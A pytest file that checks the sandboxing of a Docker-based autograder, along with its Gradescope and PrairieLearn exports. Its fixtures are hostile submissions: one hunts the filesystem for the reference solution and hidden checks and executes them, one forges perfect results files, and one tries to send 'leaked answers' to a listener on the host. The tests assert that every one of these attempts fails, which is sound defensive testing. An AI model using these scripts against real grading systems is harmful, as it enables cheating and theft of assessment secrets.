"""Grading inside containers, with a real Docker engine: the grader image, one-container and
container-per-submission batches, hostile submissions, and the Gradescope and PrairieLearn harnesses.

The end-to-end tests skip (with the reason) only when no Docker engine answers `docker info`;
scripts/ci-prereqs.sh installs and starts one and builds the registry-free base image. They build
the grader image from this tree on the local base image (cached layers make that quick).
"""
from __future__ import annotations

import json
import re
import shutil
import socket
import subprocess
import threading
import uuid
import zipfile
from pathlib import Path

import pytest

from autograder.docker import (
    IMAGE, LOCAL_BASE_IMAGE, Limits, build_image, engine_problem, grade_batch_in_docker, grade_in_docker,
    image_exists, run_command,
)
from autograder.errors import AttnkitError
from autograder.export import export_gradescope, export_prairielearn
from autograder.formats.prairielearn import to_prairielearn
from autograder.results import CheckResult, SubmissionResult

REPO = Path(__file__).resolve().parents[1]
REFERENCE = REPO / "solutions" / "attention" / "attention.py"
BLANK = REPO / "assignments" / "attention" / "attention.py"
CHECKS = REPO / "autograder" / "checks"


# --------------------------------------------------------------------------------------------
# fast tests: no engine needed
# --------------------------------------------------------------------------------------------
def test_grading_container_has_no_network_limits_read_only_root_and_one_writable_mount(tmp_path):
    args = run_command(image="img", limits=Limits(memory="3g", cpus=1.0, pids=256, tmpfs="512m"),
                       mounts=[(tmp_path / "sub.py", "/srv/attnkit/submissions/sub.py", False),
                               (tmp_path / "out", "/srv/attnkit/out", True)],
                       command=["grade", "x"], name="c1")
    joined = " ".join(args)
    assert "--network none" in joined and "--read-only" in args
    assert "--memory 3g" in joined and "--memory-swap 3g" in joined and "--pids-limit 256" in joined
    assert "--cpus 1" in joined and "/tmp:rw,nosuid,nodev,size=512m" in args
    mounts = [args[i + 1] for i, arg in enumerate(args) if arg == "--mount"]
    assert [m.endswith(",readonly") for m in mounts] == [True, False]
    assert args[-3:] == ["img", "grade", "x"]


def test_grading_a_missing_submission_says_which_path(tmp_path):
    with pytest.raises(AttnkitError, match="nowhere.py: no such submission"):
        grade_in_docker(tmp_path / "nowhere.py", tmp_path / "out")
    with pytest.raises(AttnkitError, match="not a folder of submissions"):
        grade_batch_in_docker(tmp_path / "nowhere", tmp_path / "out")


def _result(points: list[tuple[float, float]], **extra) -> SubmissionResult:
    checks = tuple(
        CheckResult(check_id=f"c{i}", name=f"check {i}", part="A", task="A.1", points=p, max_points=m,
                    status="passed" if p == m else "failed", message="" if p == m else f"wrong {i}",
                    visibility="hidden" if i == 2 else "visible")
        for i, (p, m) in enumerate(points))
    return SubmissionResult(submission="s", source="s.py", seed=1, checks=checks, **extra)


def test_prairielearn_score_is_a_fraction_and_hidden_messages_stay_hidden():
    payload = to_prairielearn(_result([(1, 1), (0, 2), (0, 1)]))
    assert payload["gradable"] is True and payload["score"] == pytest.approx(0.25)
    assert [t["points"] for t in payload["tests"]] == [1, 0, 0]
    assert [t["max_points"] for t in payload["tests"]] == [1, 2, 1]
    assert payload["tests"][1]["message"] == "wrong 1" and payload["tests"][2]["message"] == ""
    json.dumps(payload)


def test_prairielearn_unreadable_submission_is_not_gradable():
    payload = to_prairielearn(_result([(0, 1)], grader_error="attention.py is not readable Python text"))
    assert payload["gradable"] is False
    assert payload["format_errors"] == ["attention.py is not readable Python text"]


def test_prairielearn_question_uses_the_image_and_its_entry_point(tmp_path):
    folder = export_prairielearn(tmp_path / "q", image="registry.example/attnkit-grader:1")
    info = json.loads((folder / "info.json").read_text())
    assert info["gradingMethod"] == "External"
    assert info["externalGradingOptions"]["image"] == "registry.example/attnkit-grader:1"
    assert info["externalGradingOptions"]["entrypoint"] == "/opt/attnkit/bin/entrypoint-prairielearn"
    assert 'file-names="attention.py"' in (folder / "question.html").read_text()


# --------------------------------------------------------------------------------------------
# the engine, the image, hostile submissions
# --------------------------------------------------------------------------------------------
@pytest.fixture(scope="session")
def engine() -> None:
    problem = engine_problem()
    if problem:
        pytest.skip(f"Docker engine not reachable: {problem}. Run scripts/ci-prereqs.sh (as root)"
                    " to install and start one, then `make test`.")


@pytest.fixture(scope="session")
def image(engine) -> str:
    if not image_exists(LOCAL_BASE_IMAGE):
        subprocess.run([str(REPO / "docker" / "build-base.sh"), LOCAL_BASE_IMAGE], check=True)
    build_image(tag=IMAGE, base_image=LOCAL_BASE_IMAGE)
    return IMAGE


def _code_lines(text: str, shortest: int) -> list[str]:
    """Lines of code (no strings, no comments): text the grader never shows on purpose."""
    lines = [line.strip() for line in text.splitlines()]
    return [line for line in lines if len(line) >= shortest and not re.search(r"[\"'#]", line)]


def _secret_lines() -> list[str]:
    """Distinctive lines of code of the reference solution's answers and of the hidden checks."""
    release = BLANK.read_text()
    answers = re.findall(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", REFERENCE.read_text(), re.S)
    lines = [line for block in answers for line in _code_lines(block, 25) if line not in release]
    for path in sorted(CHECKS.glob("*.py")):
        lines += _code_lines(path.read_text(), 50)
    assert len(lines) > 20, "too few secret lines to look for"
    return lines


def _texts(folder: Path) -> str:
    return "\n".join(p.read_text(errors="replace") for p in sorted(folder.rglob("*")) if p.is_file())


THIEF = '''

# --- a hostile submission: look for the reference solution and the hidden checks, use them ---
import os as _os
_MARK = "### BEGIN " + "SOLUTION"  # spelled so that this file itself does not carry it
_TARGETS = ("attention.py", "mistakes.py", "plugin.py", "support.py", "pronoun_model.pt")
_found, _denied, _seen = [], 0, 0
_direct = ["/opt/attnkit/solutions/attention/attention.py", "/opt/attnkit/autograder/checks/test_part_a.py",
           "/opt/attnkit/autograder/reference/pronoun_model.pt", "/srv/attnkit/submissions/reference.py",
           "/proc/1/root/opt/attnkit/solutions/attention/attention.py"]
_candidates = list(_direct)
for _top, _dirs, _files in _os.walk("/", onerror=lambda error: None):
    _dirs[:] = [d for d in _dirs if _os.path.join(_top, d) not in ("/proc", "/sys", "/dev")
                and d not in ("site-packages", "__pycache__")]
    _seen += len(_files)
    _candidates += [_os.path.join(_top, f) for f in _files if f in _TARGETS or f.startswith("test_part_")
                    or (_top.startswith("/srv") and f.endswith(".py"))]
for _path in _candidates:
    try:
        with open(_path, "rb") as _handle:
            _data = _handle.read()
    except OSError:
        _denied += 1
        continue
    _text = _data.decode("utf-8", "replace")
    if _MARK in _text or _os.path.basename(_path).startswith("test_part_") or _path.endswith(".pt"):
        _found.append(_path)
        print("STOLEN", _path, _text[:20000])
print(f"THIEF-RAN seen={_seen} candidates={len(_candidates)} denied={_denied} found={len(_found)}")
for _path in _found:
    if _path.endswith(".py") and _MARK in open(_path).read():
        exec(compile(open(_path).read(), _path, "exec"), globals())  # the stolen answers replace the stubs
'''

FAKER = '''

# --- a hostile submission: write a perfect results file wherever one might be read ---
import json as _json, os as _os
_fake = {"score": 1000, "output": "FAKE-RESULT", "tests": [{"score": 1000, "max_score": 1, "name": "FAKE-RESULT"}]}
_written = []
for _folder in ("/srv/attnkit/out", "/srv/attnkit/out/faker", "/autograder/results", "/grade/results",
                "/tmp", _os.getcwd(), "/srv/attnkit/out/reference"):
    for _name in ("results.json", "attnkit.json"):
        try:
            _os.makedirs(_folder, exist_ok=True)
            with open(_os.path.join(_folder, _name), "w") as _handle:
                _json.dump(_fake, _handle)
            _written.append(_os.path.join(_folder, _name))
        except OSError:
            pass
print("FAKER-RAN wrote", _written)
'''


def _net_probe(port: int, hosts: list[str]) -> str:
    return f'''

# --- a hostile submission: reach the grading machine over the network ---
import socket as _socket
for _host in {hosts!r}:
    try:
        with _socket.create_connection((_host, {port}), timeout=3) as _connection:
            _connection.sendall(b"LEAK attention answers")
        print("NET-PROBE", _host, "connected")
    except OSError as _error:
        print("NET-PROBE", _host, "failed", type(_error).__name__)
try:
    _socket.getaddrinfo("pypi.org", 443)
    print("NET-PROBE dns resolved")
except OSError as _error:
    print("NET-PROBE dns failed", type(_error).__name__)
'''


class Listener:
    """A TCP listener on all of the host's interfaces that records every connection it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("0.0.0.0", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopped.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(1024) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self.stopped.set()
        self.thread.join()
        self.server.close()


def _bridge_gateway() -> str:
    """The host's address on Docker's default bridge (IPAM leaves it out on some engines)."""
    done = subprocess.run(["docker", "network", "inspect", "bridge", "--format",
                           "{{range .IPAM.Config}}{{.Gateway}}{{end}}"], capture_output=True, text=True)
    return done.stdout.strip() or "172.17.0.1"


@pytest.fixture(scope="module")
def listener(engine):
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def batch(image, listener, tmp_path_factory):
    """One container grades a reference, the blank release and three hostile submissions."""
    root = tmp_path_factory.mktemp("docker-batch")
    inbox = root / "submissions"
    inbox.mkdir()
    blank = BLANK.read_text()
    shutil.copyfile(REFERENCE, inbox / "reference.py")
    (inbox / "blank.py").write_text(blank)
    (inbox / "thief.py").write_text(blank + THIEF)
    (inbox / "faker.py").write_text(blank + FAKER)
    hosts = ["127.0.0.1", _bridge_gateway(), "host.docker.internal"]
    (inbox / "netprobe.py").write_text(blank + _net_probe(listener.port, hosts))
    out = root / "out"
    result = grade_batch_in_docker(inbox, out, jobs=2, seed=11)
    return {r.submission: r for r in result.submissions}, out, inbox


@pytest.mark.docker
@pytest.mark.slow
def test_reference_gets_full_marks_in_one_batch_container(batch):
    results, out, _ = batch
    reference = results["reference"]
    assert not reference.grader_error
    assert reference.score == reference.max_score > 0
    gradescope = json.loads((out / "reference" / "results.json").read_text())
    assert gradescope["score"] == reference.score


@pytest.mark.docker
@pytest.mark.slow
def test_blank_release_gets_zero_in_container(batch):
    blank = batch[0]["blank"]
    assert blank.max_score > 0 and blank.score == 0


@pytest.mark.docker
@pytest.mark.slow
def test_submission_hunting_for_the_reference_and_hidden_checks_finds_nothing(batch):
    results, out, _ = batch
    thief = results["thief"]
    assert "THIEF-RAN" in thief.output, "the hostile code did not run, so this test proves nothing"
    counts = dict(re.findall(r"(\w+)=(\d+)", thief.output.split("THIEF-RAN", 1)[1].splitlines()[0]))
    assert int(counts["seen"]) > 1000 and int(counts["denied"]) >= 4  # it walked the disk, was refused
    assert counts["found"] == "0" and "STOLEN" not in thief.output
    assert thief.score == 0
    # Lines the grader also shows the blank release are its own messages, not something stolen.
    thief_texts, blank_texts = _texts(out / "thief"), _texts(out / "blank")
    leaked = [line for line in _secret_lines() if line in thief_texts and line not in blank_texts]
    assert not leaked, f"secret text in the thief's results: {leaked[:3]}"


@pytest.mark.docker
@pytest.mark.slow
def test_submission_cannot_reach_a_listener_on_the_host(batch, listener, image):
    netprobe = batch[0]["netprobe"]
    assert "NET-PROBE" in netprobe.output, "the network probe did not run"
    assert "connected" not in netprobe.output and "dns resolved" not in netprobe.output
    assert netprobe.score == 0
    assert listener.received == []
    # The control: the same probe from a container with a network reaches the listener, so the
    # listener was reachable and the silence above is the grading container's doing.
    probe = (f"import socket; c = socket.create_connection(('{_bridge_gateway()}', {listener.port}), timeout=5);"
             " c.sendall(b'control'); c.close()")
    subprocess.run(["docker", "run", "--rm", "--network", "bridge", "--entrypoint", "python", image, "-c", probe],
                   check=True, capture_output=True, timeout=120)
    for _ in range(20):
        if listener.received:
            break
        threading.Event().wait(0.25)
    assert listener.received == [b"control"]
    listener.received.clear()


@pytest.mark.docker
@pytest.mark.slow
def test_fake_results_written_by_a_submission_gain_nothing(batch):
    results, out, _ = batch
    faker = results["faker"]
    assert "FAKER-RAN" in faker.output
    assert faker.score == 0
    for path in out.rglob("*.json"):
        assert "FAKE-RESULT" not in path.read_text(errors="replace"), path
    assert json.loads((out / "faker" / "results.json").read_text())["score"] == 0


@pytest.mark.docker
@pytest.mark.slow
def test_container_per_submission_matches_the_one_container_batch(batch, image, tmp_path):
    results, _, inbox = batch
    small = tmp_path / "submissions"
    small.mkdir()
    for name in ("reference.py", "blank.py"):
        shutil.copyfile(inbox / name, small / name)
    each = grade_batch_in_docker(small, tmp_path / "out", jobs=2, seed=11, container_per_submission=True)
    scores = {r.submission: r.score for r in each.submissions}
    assert scores == {"reference": results["reference"].score, "blank": 0}


@pytest.mark.docker
@pytest.mark.slow
def test_grading_container_root_is_read_only_and_secrets_are_root_only(image, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    script = ("touch /opt/attnkit/x 2>/dev/null && echo ROOTFS-WRITABLE; touch /tmp/x && echo TMP-OK;"
              " touch /srv/attnkit/out/x && echo OUT-OK;"
              " setpriv --reuid 10001 --regid 10001 --clear-groups sh -c"
              " 'cat /opt/attnkit/solutions/attention/attention.py >/dev/null 2>&1 && echo SOLUTION-READABLE;"
              "  ls /opt/attnkit/autograder/checks >/dev/null 2>&1 && echo CHECKS-READABLE;"
              "  ls /srv/attnkit >/dev/null 2>&1 && echo SRV-READABLE;"
              "  python -c \"import torch\" && echo STUDENT-PYTHON-OK'")
    args = run_command(image=image, limits=Limits(), mounts=[(out, "/srv/attnkit/out", True)],
                       command=["-c", script], name=f"attnkit-test-fs-{uuid.uuid4().hex[:8]}", entrypoint="sh")
    done = subprocess.run(["docker", *args], capture_output=True, text=True, timeout=300)
    assert done.stdout.split() == ["TMP-OK", "OUT-OK", "STUDENT-PYTHON-OK"], done.stdout + done.stderr


# --------------------------------------------------------------------------------------------
# the platforms' harnesses, simulated
# --------------------------------------------------------------------------------------------
GRADESCOPE_HARNESS = r"""
set -eu
mkdir -p /autograder/source /autograder/results /autograder/submission
# unzip, keeping the files' modes as Gradescope does
python3 -c 'import os, sys, zipfile
archive = zipfile.ZipFile(sys.argv[1])
for info in archive.infolist():
    archive.extract(info, sys.argv[2])
    os.chmod(os.path.join(sys.argv[2], info.filename), info.external_attr >> 16 & 0o777 or 0o644)
' /input/autograder.zip /autograder/source
cd /autograder/source && bash ./setup.sh > /output/setup.log 2>&1
cp /autograder/source/run_autograder /autograder/run_autograder
for name in reference faker; do
    rm -rf /autograder/submission/* /autograder/results/*
    cp /input/$name.py /autograder/submission/attention.py
    cd /autograder && ./run_autograder > /output/$name.log 2>&1 || echo "run_autograder failed: $name"
    cp /autograder/results/results.json /output/$name.json
    ls -la /autograder/results /autograder/source >> /output/$name.log
done
for secret in /autograder/source/attnkit/solutions/attention/attention.py /opt/attnkit/solutions/attention/attention.py \
        /opt/attnkit/autograder/checks/test_part_a.py; do
    setpriv --reuid 10001 --regid 10001 --clear-groups cat "$secret" >/dev/null 2>&1 && echo "READABLE $secret"
done
setpriv --reuid 10001 --regid 10001 --clear-groups cat /opt/attnkit/assignments/attention/attention.py >/dev/null \
    && echo "PUBLIC-READABLE"
"""


@pytest.mark.docker
@pytest.mark.slow
def test_gradescope_harness_runs_setup_offline_then_grades(engine, tmp_path):
    if not image_exists(LOCAL_BASE_IMAGE):
        subprocess.run([str(REPO / "docker" / "build-base.sh"), LOCAL_BASE_IMAGE], check=True)
    inputs, outputs = tmp_path / "in", tmp_path / "out"
    inputs.mkdir()
    outputs.mkdir()
    zip_path = export_gradescope(inputs / "autograder.zip")
    with zipfile.ZipFile(zip_path) as archive:
        names = set(archive.namelist())
        assert {"setup.sh", "run_autograder"} <= names
        assert archive.getinfo("run_autograder").external_attr >> 16 & 0o111
    shutil.copyfile(REFERENCE, inputs / "reference.py")
    (inputs / "faker.py").write_text(BLANK.read_text() + FAKER)
    done = subprocess.run(
        ["docker", "run", "--rm", "--network", "none",
         "--mount", f"type=bind,source={inputs},target=/input,readonly",
         "--mount", f"type=bind,source={outputs},target=/output",
         LOCAL_BASE_IMAGE, "bash", "-c", GRADESCOPE_HARNESS],
        capture_output=True, text=True, timeout=1200)
    logs = "".join(p.read_text(errors="replace") for p in sorted(outputs.glob("*.log")))
    assert done.returncode == 0 and "failed" not in done.stdout, done.stdout + done.stderr + logs
    # The unpacked zip and the installed secrets are root-only; the public release is not.
    assert "PUBLIC-READABLE" in done.stdout and "READABLE /" not in done.stdout
    reference = json.loads((outputs / "reference.json").read_text())
    assert reference["score"] == sum(t["max_score"] for t in reference["tests"]) > 0
    faker = json.loads((outputs / "faker.json").read_text())
    assert faker["score"] == 0 and "FAKE-RESULT" not in json.dumps(faker)


@pytest.mark.docker
@pytest.mark.slow
def test_prairielearn_harness_grades_grade_student_into_results(image, tmp_path):
    grade = tmp_path / "grade"
    (grade / "student").mkdir(parents=True)
    (grade / "data").mkdir()
    shutil.copyfile(REFERENCE, grade / "student" / "attention.py")
    (grade / "data" / "data.json").write_text(json.dumps({"params": {"attnkit_seed": 4}, "submitted_answers": {}}))
    done = subprocess.run(
        ["docker", "run", "--rm", "--network", "none", "--entrypoint", "/opt/attnkit/bin/entrypoint-prairielearn",
         "--mount", f"type=bind,source={grade},target=/grade", image],
        capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stdout + done.stderr
    results = json.loads((grade / "results" / "results.json").read_text())
    assert results["gradable"] is True and results["score"] == 1.0
    assert results["tests"] and all(t["points"] == t["max_points"] for t in results["tests"])
